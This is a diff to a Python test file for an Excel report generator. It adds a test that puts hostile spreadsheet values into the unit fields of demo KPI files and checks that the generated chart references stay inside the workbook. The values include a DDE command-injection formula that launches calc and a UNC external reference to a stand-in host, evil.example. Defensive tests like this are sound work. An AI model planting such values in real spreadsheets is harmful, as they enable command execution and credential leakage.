@@ -8,6 +8,7 @@ import zipfile
 from dataclasses import replace
 from datetime import date
 from functools import lru_cache
+from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
 import openpyxl
@@ -135,3 +136,28 @@ def test_hostile_texts_are_inert_and_the_file_opens(text: str) -> None:
 @pytest.mark.parametrize(("value", "shown"), [(29.0, "#,##0"), (11.7, "#,##0.0"), (1234567.8, "#,##0"), (0.125, "#,##0.000"), (0.0, "#,##0"), (20.2949, "#,##0.00"), (0.00001, "General")])  # fmt: skip
 def test_numbers_claim_no_more_than_they_know(value: float, shown: str) -> None:
     assert number_format(value) == shown
+
+
+def test_a_title_or_unit_that_looks_like_a_reference_is_text_in_every_chart(tmp_path: Path) -> None:
+    import re
+    import shutil
+    import zipfile
+
+    folder = tmp_path / "files"
+    shutil.copytree(DEMO, folder)
+    for file, unit in zip(
+        sorted((folder / "kpis").glob("*.yaml")),
+        ("'\\\\\\\\evil.example\\\\s\\\\[b.xlsx]S'!A1", "=cmd|' /C calc'!A0", "=S!$A$1", "x!B2"),
+        strict=False,
+    ):
+        text = file.read_text("utf-8")
+        file.write_text(re.sub(r"(?m)^unit:.*$", lambda _, unit=unit: f'unit: "{unit}"', text), "utf-8")  # type: ignore[misc]
+    view = edition_of(folder).view("en")
+    scope = scope_of("all", view)
+    assert scope is not None
+    with zipfile.ZipFile(io.BytesIO(workbook(briefing(scope, view), view))) as packed:
+        charts = [packed.read(name).decode() for name in packed.namelist() if "/charts/" in name]
+        sheets = re.findall(r'<sheet name="([^"]*)"', packed.read("xl/workbook.xml").decode())
+    found = [each for chart in charts for each in re.findall(r"<c:f>(.*?)</c:f>", chart)]
+    assert found
+    assert all(any(each.startswith((f"{name}!", f"'{name}'!")) for name in sheets) for each in found)
